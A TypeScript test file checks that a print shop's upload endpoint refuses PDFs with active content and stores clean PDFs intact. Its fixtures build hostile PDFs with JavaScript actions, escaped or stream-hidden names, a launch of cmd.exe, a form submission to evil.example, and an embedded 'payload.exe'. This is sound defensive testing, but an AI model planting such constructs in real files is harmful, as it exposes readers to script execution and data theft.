/**
 * PDFs with active content are refused at upload (issue #29, docs/decisions/019): JavaScript (an
 * open action, the document's name tree, a page's additional action, XFA), launch, form submission
 * and import, attachments and rich media, also where a compressed object stream hides them or a
 * name is written with `#xx` escapes. The PDFs are made in the test (tests/files/pdf-builder.ts);
 * poppler-utils, a real reader, confirms each hostile one carries what it claims (pdfinfo -js,
 * pdfdetach -list) before the shop refuses it. Clean PDFs, a real producer's included, are stored
 * byte for byte. Over real HTTP against a real database.
 */
import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { deflateSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { createProductFixture, productionBody } from '../cart/fixtures.ts';
import { useTestServer } from '../support/server.ts';
import { loggedInClient, type SessionClient } from '../support/session-client.ts';
import { buildPdf, onePage, type PdfObject } from './pdf-builder.ts';

const run = promisify(execFile);

const JS_ACTION = "<< /Type /Action /S /JavaScript /JS (app.alert\\('owned'\\)) >>";
const ADVICE = '添付ファイルやフォーム、スクリプトを含めない設定（PDF/X-4など）で保存し直してからお送りください。';
const refusal = (what: string) => `このPDFには印刷に使わないデータ（${what}）が含まれているため、アップロードできません。${ADVICE}`;
const UNCHECKABLE =
  'このPDFはパスワードなどで保護されているか、内容を読み取れない形式のため、安全なデータか確認できずアップロードできません。保護を解除し、PDF/X-4などで保存し直してからお送りください。';

/** Each hostile PDF, what a reader finds in it, and the message the shop answers. */
const HOSTILE: {
  name: string;
  pdf: () => Buffer;
  /** pdfinfo -js prints this script / pdfdetach -list lists this file */
  witness?: { js?: string; attachment?: string };
  message: string;
}[] = [
  {
    // (poppler does not list open actions; the cases below with a witness are the same actions elsewhere)
    name: 'a JavaScript open action',
    pdf: () => buildPdf([...onePage('/OpenAction 5 0 R'), { num: 5, body: JS_ACTION }]),
    message: refusal('JavaScript'),
  },
  {
    name: "a script in the document's JavaScript name tree",
    pdf: () =>
      buildPdf([
        ...onePage('/Names << /JavaScript 5 0 R >>'),
        { num: 5, body: '<< /Names [(init) 6 0 R] >>' },
        { num: 6, body: '<< /S /JavaScript /JS 7 0 R >>' },
        { num: 7, body: '<< >>', stream: "this.print({bUI: false, bSilent: true});\napp.alert('tree');" },
      ]),
    witness: { js: "app.alert('tree')" },
    message: refusal('JavaScript'),
  },
  {
    name: "a page's additional action (/AA) running JavaScript when the page opens",
    pdf: () => buildPdf([...onePage('', '/AA << /O 5 0 R >>'), { num: 5, body: JS_ACTION }]),
    witness: { js: "app.alert('owned')" },
    message: refusal('JavaScript'),
  },
  {
    name: 'the open action and its script packed into a compressed object stream',
    pdf: () => buildPdf([...onePage('/OpenAction 5 0 R'), { num: 5, body: JS_ACTION }], { packed: [1, 2, 3, 5] }),
    message: refusal('JavaScript'),
  },
  {
    name: "a link's JavaScript action packed into a compressed object stream, with the page and the catalog",
    pdf: () =>
      buildPdf(
        [
          ...onePage('', '/Annots [5 0 R]'),
          { num: 5, body: "<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /JavaScript /JS (app.alert\\('link'\\)) >> >>" },
        ],
        { packed: [1, 2, 3, 5] },
      ),
    witness: { js: "app.alert('link')" },
    message: refusal('JavaScript'),
  },
  {
    name: 'a JavaScript action whose names are written with #xx escapes, in an object stream',
    pdf: () =>
      buildPdf(
        [
          ...onePage('', '/Annots [5 0 R]'),
          {
            num: 5,
            body: "<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /J#61v#61Script /J#53 (app.alert\\('escaped'\\)) >> >>",
          },
        ],
        { packed: [3, 5] },
      ),
    witness: { js: "app.alert('escaped')" },
    message: refusal('JavaScript'),
  },
  {
    name: 'an XFA form (its scripts run in Acrobat)',
    pdf: () =>
      buildPdf([
        ...onePage('/AcroForm << /Fields [] /XFA 5 0 R >>'),
        { num: 5, body: '<< >>', stream: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>' },
      ]),
    message: refusal('JavaScript'),
  },
  {
    name: 'a launch action',
    pdf: () => buildPdf(onePage('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>')),
    message: refusal('アプリケーションやファイルを開く動作'),
  },
  {
    name: 'a link that submits the form to another site',
    pdf: () =>
      buildPdf([
        ...onePage('', '/Annots [5 0 R]'),
        {
          num: 5,
          body: '<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>',
        },
      ]),
    message: refusal('フォームの送信・読み込み'),
  },
  {
    name: 'an import-data action',
    pdf: () => buildPdf(onePage('/OpenAction << /S /ImportData /F (answers.fdf) >>'), { packed: [1] }),
    message: refusal('フォームの送信・読み込み'),
  },
  {
    name: 'an embedded file',
    pdf: () =>
      buildPdf([
        ...onePage('/Names << /EmbeddedFiles << /Names [(payload.exe) 5 0 R] >> >>'),
        { num: 5, body: '<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 6 0 R >> >>' },
        { num: 6, body: '<< /Type /EmbeddedFile /Filter /FlateDecode >>', stream: deflateSync(Buffer.from('MZ not really a program')) },
      ]),
    witness: { attachment: 'payload.exe' },
    message: refusal('添付ファイル'),
  },
  {
    name: 'a rich media annotation',
    pdf: () =>
      buildPdf([...onePage('', '/Annots [5 0 R]'), { num: 5, body: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>' }]),
    message: refusal('動画・3Dなどのリッチメディア'),
  },
  {
    name: 'a script, a launch and an attachment at once (every kind is named)',
    pdf: () =>
      buildPdf([
        ...onePage(
          '/OpenAction 5 0 R /Names << /EmbeddedFiles << /Names [(a.txt) << /Type /Filespec /F (a.txt) /EF << /F 6 0 R >> >>] >> >>',
        ),
        { num: 5, body: "<< /S /JavaScript /JS (app.alert\\('owned'\\)) /Next << /S /Launch /F (calc.exe) >> >>" },
        { num: 6, body: '<< /Type /EmbeddedFile >>', stream: 'hello' },
      ]),
    message: refusal('JavaScript・アプリケーションやファイルを開く動作・添付ファイル'),
  },
];

/** What poppler-utils finds in `pdf`: whether it parses, its JavaScript, its attachments. */
async function readerSees(pdf: Buffer): Promise<{ pages: number; js: string; attachments: string }> {
  const dir = await mkdtemp(join(tmpdir(), 'shop-pdf-'));
  try {
    const file = join(dir, 'test.pdf');
    await writeFile(file, pdf);
    const [info, js, detach] = await Promise.all([
      run('pdfinfo', [file]),
      run('pdfinfo', ['-js', file]),
      run('pdfdetach', ['-list', file]),
    ]);
    return { pages: Number(/^Pages:\s+(\d+)/m.exec(info.stdout)?.[1]), js: js.stdout, attachments: detach.stdout };
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

describe('uploading a PDF with active content', () => {
  const server = useTestServer();
  let client: SessionClient;
  const files = async () => (await server.db.query<{ n: number }>('select count(*)::int as n from files'))[0]!.n;
  beforeAll(async () => {
    ({ client } = await loggedInClient(server));
  });

  it.each(HOSTILE)('$name: a reader finds it, and the upload answers 422 with a Japanese message, storing nothing', async (c) => {
    const pdf = c.pdf();
    const seen = await readerSees(pdf);
    expect(seen.pages).toBe(1);
    if (c.witness?.js) expect(seen.js).toContain(c.witness.js);
    if (c.witness?.attachment) expect(seen.attachments).toContain(c.witness.attachment);
    const before = await files();
    const answer = await client.upload<{ message: string; errors: { file: string[] } }>(pdf, 'design.pdf', { type: 'application/pdf' });
    expect([answer.status, answer.json]).toEqual([422, { message: c.message, errors: { file: [c.message] } }]);
    expect(await files()).toBe(before);
  });

  it('an Illustrator file saved PDF-compatible is checked the same way, and named as an AI file', async () => {
    const ai = buildPdf([
      ...onePage('/PieceInfo << /Illustrator 6 0 R >> /OpenAction 5 0 R'),
      { num: 5, body: JS_ACTION },
      { num: 6, body: '<< >>' },
    ]);
    const answer = await client.upload<{ message: string }>(ai, 'design.ai');
    expect(answer.status).toBe(422);
    expect(answer.json.message).toBe(
      `このAIファイルには印刷に使わないデータ（JavaScript）が含まれているため、アップロードできません。${ADVICE}`,
    );
  });

  it('an object stream this check cannot read (encrypted, or an unusual filter) is refused as uncheckable', async () => {
    const objects: PdfObject[] = [
      { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
      { num: 2, body: '<< /Type /Pages /Kids [] /Count 0 >>' },
      { num: 5, body: '<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>', stream: Buffer.from([0x80, 0x0b, 0x60, 0x50, 0x22, 0x0c]) },
    ];
    // Encrypted: the object stream's bytes are ciphertext until decrypted with the document's key.
    const encrypted = buildPdf(
      [
        ...objects.slice(0, 2),
        { num: 5, body: '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>', stream: Buffer.from('RC4-encrypted bytes, not zlib') },
        { num: 6, body: '<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>' },
      ],
      { trailer: '/Encrypt 6 0 R /ID [<00112233> <00112233>]' },
    );
    for (const pdf of [buildPdf(objects), encrypted]) {
      const answer = await client.upload<{ message: string }>(pdf, 'design.pdf');
      expect([answer.status, answer.json.message]).toEqual([422, UNCHECKABLE]);
    }
  });

  it('a clean PDF, also with compressed object streams, is stored byte for byte', async () => {
    for (const pdf of [buildPdf(onePage()), buildPdf(onePage('/PageMode /UseNone'), { packed: [1, 2, 3] })]) {
      expect((await readerSees(pdf)).pages).toBe(1);
      const answer = await client.upload<{ data: { uuid: string; kind: string } }>(pdf, 'clean.pdf');
      expect([answer.status, answer.json.data.kind]).toEqual([201, 'pdf']);
      const original = await fetch(`${server.url}/api/files/${answer.json.data.uuid}/original`, {
        headers: { cookie: [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
      });
      expect(Buffer.from(await original.arrayBuffer()).equals(pdf)).toBe(true);
    }
  });

  it("a real producer's PDF (the shop's own quote: pdf-lib, an embedded font, object streams) is accepted", async () => {
    const fixture = await createProductFixture(server.db);
    const quote = await fetch(`${server.url}/api/quotes/pdf`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'x-xsrf-token': client.cookies.get('XSRF-TOKEN') ?? '',
        cookie: [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; '),
      },
      body: JSON.stringify({ ...productionBody(fixture), name: '山田 太郎' }),
    });
    expect(quote.status).toBe(200);
    const pdf = Buffer.from(await quote.arrayBuffer());
    expect(pdf.includes('/ObjStm')).toBe(true);
    const answer = await client.upload<{ data: { kind: string } }>(pdf, '見積書.pdf');
    expect([answer.status, answer.json.data?.kind]).toEqual([201, 'pdf']);
  });
});
